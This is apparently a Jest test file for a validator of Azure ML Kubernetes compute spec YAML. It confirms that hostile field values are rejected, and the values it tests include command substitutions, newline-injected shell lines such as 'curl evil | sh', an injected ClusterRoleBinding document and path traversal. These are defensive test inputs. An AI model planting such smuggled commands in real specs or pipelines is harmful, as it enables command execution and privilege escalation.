// Validation owns every string that reaches an output: the attacker's spec inputs are rejected at
// their line, before any renderer sees them.
import { describe, expect, test } from '@jest/globals';
import { generate } from 'selfsigned';
import { stringify } from 'yaml';
import { applyOverlay, BASE_EXAMPLE } from './rules/examples.ts';
import type { SpecOverlay } from './rules/rule.ts';
import { validateSpecs } from './validate.ts';

const errorsOf = (overlay: SpecOverlay, env: Record<string, string> = {}) =>
  validateSpecs([{ file: 'spec.yaml', text: stringify(applyOverlay(BASE_EXAMPLE, overlay)) }], { env, readFile: () => undefined }).diagnostics.filter((d) => d.severity === 'error');
const errorsOfText = (text: string) => validateSpecs([{ file: 'spec.yaml', text }]).diagnostics.filter((d) => d.severity === 'error');

describe('hostile spec strings are errors', () => {
  test.each([
    ['keyEnv with a command substitution', { spec: { extension: { inference: { tls: { insecure: null, cname: 'ml.contoso.com', certEnv: 'CERT', keyEnv: 'K$(touch x)' } } } } }, 'spec.extension.inference.tls'],
    ['certEnv with a space', { spec: { extension: { inference: { tls: { insecure: null, cname: 'ml.contoso.com', certEnv: 'A B', keyEnv: 'KEY' } } } } }, 'spec.extension.inference.tls'],
    ['a protected setting env with a backtick', { spec: { extension: { protectedSettings: { relayServerConnectionString: { env: 'X`id`' } } } } }, 'spec.extension.protectedSettings.relayServerConnectionString'],
    ['a newline in attach.description', { spec: { attach: { description: 'ok\ntouch /tmp/pwned' } } }, 'spec.attach.description'],
    ['a newline in metadata.name with computeName set', { metadata: { name: 'x\ncurl evil | sh' }, spec: { attach: { computeName: 'gpu-east' } } }, 'metadata.name'],
    ['a YAML document in metadata.name', { metadata: { name: 'x\n---\nkind: ClusterRoleBinding\n' }, spec: { attach: { computeName: 'gpu-east' } } }, 'metadata.name'],
    ['a <details> breaker in metadata.name', { metadata: { name: 'x</summary></details>' }, spec: { attach: { computeName: 'gpu-east' } } }, 'metadata.name'],
    ['metadata.name longer than 63', { metadata: { name: 'a'.repeat(64) }, spec: { attach: { computeName: 'gpu-east' } } }, 'metadata.name'],
    ['a path in the cluster name', { spec: { cluster: { name: 'nope/../aks' } } }, 'spec.cluster.name'],
    ['a cluster name ending in "-"', { spec: { cluster: { name: 'aks-' } } }, 'spec.cluster.name'],
    ['a resource group ending in "."', { spec: { cluster: { resourceGroup: 'ml-rg.' } } }, 'spec.cluster.resourceGroup'],
    ['a path in the workspace resource group', { spec: { attach: { workspace: { resourceGroup: 'rg/../x' } } } }, 'spec.attach.workspace.resourceGroup'],
    ['a control character in the owner', { metadata: { owner: 'group:default/x\u001b[2J' } }, 'metadata.owner'],
    ['a line separator in a setting value', { spec: { extension: { settings: { 'nginxIngress.controller': 'a\u2028b' } } } }, 'spec.extension.settings.nginxIngress.controller'],
    ['an empty setting key', { spec: { extension: { settings: { '': 'x' } } } }, 'spec.extension.settings'],
    ['a newline in a storage server', { spec: { storage: { data: { mountPath: '/mnt/data', size: '1Gi', volume: { nfs: { server: 'a\nb', path: '/x' } } } } } }, 'spec.storage.data.volume.nfs.server'],
    ['a shell word in the release train', { spec: { extension: { releaseTrain: 'stable;id' } } }, 'spec.extension.releaseTrain'],
    ['a shell word in the version', { spec: { extension: { version: '1.1.64 --debug', autoUpgradeMinorVersion: false } } }, 'spec.extension.version'],
    ['a newline in the TLS CNAME', { spec: { extension: { inference: { tls: { insecure: null, cname: 'ml.contoso.com\nx', secretName: 'ml-tls' } } } } }, 'spec.extension.inference.tls'],
  ])('%s', (_title, overlay, path) => {
    const errors = errorsOf(overlay as SpecOverlay);
    expect(errors.map((d) => d.path)).toContain(path);
    for (const d of errors) {
      expect(d.line).toBeGreaterThan(0);
      // Messages quote the value escaped: no raw newline or control character.
      expect(d.message).not.toMatch(/[\u0000-\u001f\u2028\u2029]/);
    }
  });

  test('the names of the examples in the Azure docs still validate', () => {
    expect(errorsOf({ metadata: { name: 'aks-shared-01' }, spec: { cluster: { name: 'aks_ml-01', resourceGroup: 'rg.ml(prod)_1' }, attach: { computeName: 'shared', workspace: { resourceGroup: 'ml-rg', name: 'ml-workspace' } } } })).toEqual([]);
  });

  test('a complex key ("? [a, b]") is an error at its line, with no process warning', () => {
    const warnings: unknown[] = [];
    const listener = (w: unknown): void => void warnings.push(w);
    process.on('warning', listener);
    try {
      const text = 'apiVersion: aml-k8s/v1\nkind: KubernetesCompute\nmetadata:\n  name: x\nspec:\n  extension:\n    settings:\n      ? [a, b]\n      : 1\n';
      const errors = errorsOfText(text);
      expect(errors).toContainEqual(expect.objectContaining({ code: 'AMLK001', line: 8 }));
    } finally {
      process.off('warning', listener);
    }
    expect(warnings).toEqual([]);
  });

  test('an empty key is an error at its line', () => {
    const text = stringify(applyOverlay(BASE_EXAMPLE, {})).replace('    training: true\n', '    training: true\n    settings:\n      "": x\n');
    const errors = errorsOfText(text);
    const hit = errors.find((d) => d.path === 'spec.extension.settings');
    expect(hit?.message).toContain('empty key');
    expect(hit?.line).toBe(text.split('\n').findIndex((l) => l.includes('"": x')) + 1);
  });
});

describe('PEM from certEnv/keyEnv is checked when the variables are set', () => {
  const tlsEnv = { spec: { extension: { inference: { tls: { insecure: null, cname: 'ml.contoso.com', certEnv: 'ML_CERT', keyEnv: 'ML_KEY' } } } } };

  test('garbage in the variables is AMLK134, without quoting it', async () => {
    const pems = await generate([{ name: 'commonName', value: 'ml.contoso.com' }], { keySize: 2048, algorithm: 'sha256', extensions: [{ name: 'subjectAltName', altNames: [{ type: 2, value: 'ml.contoso.com' }] }] });
    const bad = errorsOf(tlsEnv, { ML_CERT: 'secret-not-a-pem', ML_KEY: pems.private }).filter((d) => d.code === 'AMLK134');
    expect(bad).toHaveLength(1);
    expect(bad[0]!.message).not.toContain('secret-not-a-pem');
    expect(errorsOf(tlsEnv, { ML_CERT: pems.cert, ML_KEY: 'nope' }).filter((d) => d.code === 'AMLK134')).toHaveLength(1);
    expect(errorsOf(tlsEnv, { ML_CERT: pems.cert, ML_KEY: pems.private }).filter((d) => d.code === 'AMLK134')).toEqual([]);
  });

  test('unset variables are not checked', () => {
    expect(validateSpecs([{ file: 'spec.yaml', text: stringify(applyOverlay(BASE_EXAMPLE, tlsEnv)) }], { env: {} }).diagnostics.filter((d) => d.code === 'AMLK134')).toEqual([]);
  });
});
